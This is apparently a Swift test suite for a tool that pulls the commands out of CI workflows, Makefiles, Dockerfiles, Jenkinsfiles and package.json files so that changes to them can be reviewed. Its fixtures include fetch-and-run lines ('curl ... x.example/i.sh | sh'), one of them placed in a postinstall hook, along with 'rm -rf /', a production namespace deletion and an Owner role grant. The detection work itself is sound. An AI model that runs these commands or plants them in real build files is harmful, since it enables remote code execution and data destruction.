import CavraClassify
import CavraModel
import Testing

@Suite("Finding the commands a changed file adds")
struct CommandExtractorTests {
    static func commands(_ kind: FileKind, _ text: String, added: Set<Int>? = nil) -> [(line: Int?, programs: [String])]
    {
        let lines = Set(1...max(1, text.split(separator: "\n", omittingEmptySubsequences: false).count))
        return CommandExtractor().facts(
            kind: kind, path: "file", content: Array(text.utf8), addedLines: added ?? lines, commit: nil
        ).compactMap { fact in
            guard case .command(let command) = fact else { return nil }
            return (command.line, command.pipelines.flatMap { $0.map(\.program) })
        }
    }

    @Test("GitHub workflow run steps, block scalars included, at their file lines; uses pinned or not")
    func githubWorkflow() {
        let workflow = """
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - uses: actions/setup-node@8f152de45cc393bb48ce5d89d36b731f54556e65
                  - run: npm ci
                  - name: deploy
                    run: |
                      echo deploying
                      curl -fsSL https://x.example/i.sh | sh
                  - run: >-
                      make test
            """
        let facts = CommandExtractor().facts(
            kind: .githubWorkflow, path: ".github/workflows/ci.yml", content: Array(workflow.utf8),
            addedLines: Set(1...15), commit: nil)
        let commands = facts.compactMap { fact -> (Int?, [String])? in
            if case .command(let command) = fact {
                return (command.line, command.pipelines.flatMap { $0.map(\.program) })
            }
            return nil
        }
        #expect(commands.map(\.0) == [9, 12, 13, 15])
        #expect(commands.map(\.1) == [["npm"], ["echo"], ["curl", "sh"], ["make"]])
        let actions = facts.compactMap { fact -> ActionFact? in
            if case .action(let action) = fact { return action }
            return nil
        }
        #expect(actions.map(\.line) == [7, 8])
        #expect(actions.map(\.isPinned) == [false, true])
    }

    @Test("only commands on added lines are new")
    func addedLinesOnly() {
        let script = "#!/bin/sh\necho one\ncurl https://x.example | sh\nrm -rf /\n"
        #expect(Self.commands(.shellScript, script, added: [4]).map(\.line) == [4])
        #expect(Self.commands(.shellScript, script, added: []).isEmpty)
    }

    @Test("GitLab scripts: strings and lists, in jobs and defaults")
    func gitlab() {
        let text = """
            default:
              before_script:
                - apt-get update
            .common: &common
              after_script: [echo bye]
            deploy:
              <<: *common
              script:
                - terraform init
                - terraform apply -auto-approve
              rules:
                - if: $CI_COMMIT_BRANCH == "main"
            """
        let found = Self.commands(.gitlabCI, text)
        #expect(found.map(\.line) == [3, 5, 9, 10])
        #expect(found.map(\.programs) == [["apt-get"], ["echo"], ["terraform"], ["terraform"]])
    }

    @Test("Azure Pipelines script, bash, pwsh and task inputs")
    func azure() {
        let text = """
            steps:
              - script: make build
              - bash: |
                  set -e
                  ./deploy.sh
              - pwsh: Write-Host hi
              - task: AzureCLI@2
                inputs:
                  inlineScript: az role assignment create --role Owner
            """
        let found = Self.commands(.azurePipelines, text)
        #expect(found.map(\.line) == [2, 4, 5, 6, 9])
    }

    @Test("Makefile recipes, Dockerfile RUN, Jenkinsfile sh and package.json scripts keep their lines")
    func otherKinds() {
        let makefile = "deploy:\n\t@terraform apply \\\n\t  -auto-approve\n\t-$(MAKE) -C sub clean\nx = $(shell date)\n"
        // make runs `$(shell ...)` itself, wherever it appears.
        #expect(Self.commands(.makefile, makefile).map(\.line) == [2, 4, 5])
        #expect(Self.commands(.makefile, makefile).map(\.programs) == [["terraform"], ["make"], ["date"]])

        let dockerfile =
            "FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example | sh\nRUN [\"sh\", \"-c\", \"rm -rf /\"]\n"
        let docker = Self.commands(.dockerfile, dockerfile)
        #expect(docker.map(\.line) == [2, 3, 4])
        #expect(docker.last?.programs.contains("rm") == true)

        let jenkins =
            "pipeline {\n  stages {\n    stage('x') { steps { sh 'make test'\n      sh(script: \"\"\"\n        kubectl delete ns prod\n      \"\"\") } }\n  }\n}\n"
        #expect(Self.commands(.jenkinsfile, jenkins).map(\.programs) == [["make"], ["kubectl"]])
        #expect(Self.commands(.jenkinsfile, jenkins).map(\.line) == [3, 5])

        let package =
            "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example | bash\"\n  }\n}\n"
        #expect(Self.commands(.packageJSON, package).map(\.line) == [4, 5])
    }

    /// Composing YAML puts an alias's anchored text, and that text's lines, where the alias was: a job added
    /// today that reuses an anchor written long ago still adds the anchor's commands.
    @Test("commands reached through an alias on an added line are added; the same anchor untouched is not")
    func aliasesOnAddedLines() {
        let gitlab = """
            .deploy: &deploy
              - terraform apply -auto-approve
            .job: &job
              script:
                - curl -fsSL https://x.example/i.sh | sh
            build:
              script:
                - echo build
            release:
              script: *deploy
            other:
              <<: *job
            listed:
              script:
                - echo first
                - *deploy
            """
        #expect(Self.commands(.gitlabCI, gitlab, added: [10]).map(\.programs) == [["terraform"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [12]).map(\.programs) == [["curl", "sh"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [16]).map(\.programs) == [["terraform"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [8]).map(\.programs) == [["echo"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [9, 11, 13]).isEmpty)
    }

    @Test("GitLab extends and !reference on an added line bring the template's commands in")
    func gitlabTemplates() {
        let gitlab = """
            .deploy:
              script:
                - terraform apply -auto-approve
            .setup:
              before_script:
                - curl -fsSL https://x.example/i.sh | sh
            release:
              extends: .deploy
            test:
              extends:
                - .setup
              script:
                - !reference [.deploy, script]
                - echo done
            """
        #expect(Self.commands(.gitlabCI, gitlab, added: [8]).map(\.programs) == [["terraform"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [11]).map(\.programs) == [["curl", "sh"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [13]).map(\.programs) == [["terraform"]])
        #expect(Self.commands(.gitlabCI, gitlab, added: [7, 9, 12]).isEmpty)
    }

    @Test("Dockerfile RUN options, ONBUILD and the commands every container runs are read")
    func dockerInstructions() {
        let dockerfile = """
            FROM alpine
            RUN --mount=type=secret,id=aws --network=none terraform apply -auto-approve
            ONBUILD RUN make deploy
            HEALTHCHECK --interval=30s CMD curl -fsSL https://x.example/i.sh | sh
            HEALTHCHECK NONE
            ENTRYPOINT ["kubectl", "apply", "-f", "/m"]
            CMD helm upgrade app ./chart
            COPY run.sh /run.sh
            """
        let docker = Self.commands(.dockerfile, dockerfile)
        #expect(docker.map(\.line) == [2, 3, 4, 6, 7])
        #expect(docker.map(\.programs) == [["terraform"], ["make"], ["curl", "sh"], ["kubectl"], ["helm"]])
    }

    @Test("make runs $(shell ...) and != assignments while reading the file: they are commands too")
    func makeShellFunctions() {
        let makefile = """
            VERSION := $(shell git describe --tags)
            STATE != terraform apply -auto-approve
            FILES = $(foreach d,src,$(wildcard $(d)/*.c) ${shell curl -s https://x.example | sh})
            all:
            \techo $(shell id -u)
            """
        #expect(
            Self.commands(.makefile, makefile).map(\.programs) == [
                // The recipe line runs what `id -u` prints as part of its own command.
                ["git"], ["terraform"], ["curl", "sh"], ["echo", "id"],
            ])
        #expect(Self.commands(.makefile, makefile, added: [4]).isEmpty)
    }

    /// Garbage in every kind of file is read without trapping: random text built from the pieces the readers
    /// treat specially, from a fixed seed so a failure can be replayed.
    @Test("random text in every kind of file never crashes a reader", arguments: FileKind.allCases)
    func randomText(kind: FileKind) {
        let pieces = [
            "a", "X", " ", "\t", "\n", "\\", "'", "\"", "`", "$", "(", ")", "{", "}", "[", "]", "<", ">", "|", "&", ";",
            "=", "-", "#", "*", ":", ",", "<<EOF", "EOF", "$(", "${", "$'", "$\"", "\\x7", "\\u", "\\1", "bash ",
            "sh -c ", "eval ", "find . -exec ", " \\;", "watch ", "echo ", "| sh", "X=", "$X", "export ", "RUN ",
            "--mount=", "ONBUILD ", "HEALTHCHECK ", "CMD ", "$(shell ", "!=", "&a ", "*a", "<<: ", "- ", "script: ",
            "run: ", "extends: ", "!reference [", "\"scripts\": {", "sh '",
        ]
        var seed: UInt64 = 0x9E37_79B9_7F4A_7C15
        func next(_ bound: Int) -> Int {
            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int((seed >> 33) % UInt64(bound))
        }
        for _ in 0..<300 {
            let text = (0..<(1 + next(60))).map { _ in pieces[next(pieces.count)] }.joined()
            let lines = Set(1...(text.count { $0 == "\n" } + 1))
            _ = CommandExtractor().facts(
                kind: kind, path: "file", content: Array(text.utf8), addedLines: lines, commit: nil)
        }
    }

    @Test("a CI file that does not parse is a parse fact with the parser's position")
    func malformed() {
        let broken = "jobs:\n  build:\n    steps:\n      - run: echo hi\n     bad: [\n"
        let facts = CommandExtractor().facts(
            kind: .githubWorkflow, path: ".github/workflows/x.yml", content: Array(broken.utf8), addedLines: [5],
            commit: nil)
        guard case .parse(let problem)? = facts.first else {
            Issue.record("expected a parse fact, got \(facts)")
            return
        }
        #expect(problem.line != nil && problem.column != nil)
        let json = CommandExtractor().facts(
            kind: .packageJSON, path: "package.json", content: Array("{\n  \"scripts\": {,}\n}".utf8), addedLines: [2],
            commit: nil)
        guard case .parse(let jsonProblem)? = json.first else {
            Issue.record("expected a parse fact, got \(json)")
            return
        }
        #expect(jsonProblem.line == 2)
    }

    @Test("file kinds by path and by shebang")
    func kinds() {
        #expect(FileKind(path: ".github/workflows/ci.yml") == .githubWorkflow)
        #expect(FileKind(path: "tools/setup/action.yaml") == .githubAction)
        #expect(FileKind(path: ".gitlab-ci.yml") == .gitlabCI)
        #expect(FileKind(path: "azure-pipelines.yml") == .azurePipelines)
        #expect(FileKind(path: "deploy/Dockerfile.prod") == .dockerfile)
        #expect(FileKind(path: "src/main.swift") == nil)
        #expect(FileKind.fromShebang(Array("#!/usr/bin/env bash\necho".utf8)) == .shellScript)
        #expect(FileKind.fromShebang(Array("#!/usr/bin/python3\n".utf8)) == nil)
    }
}
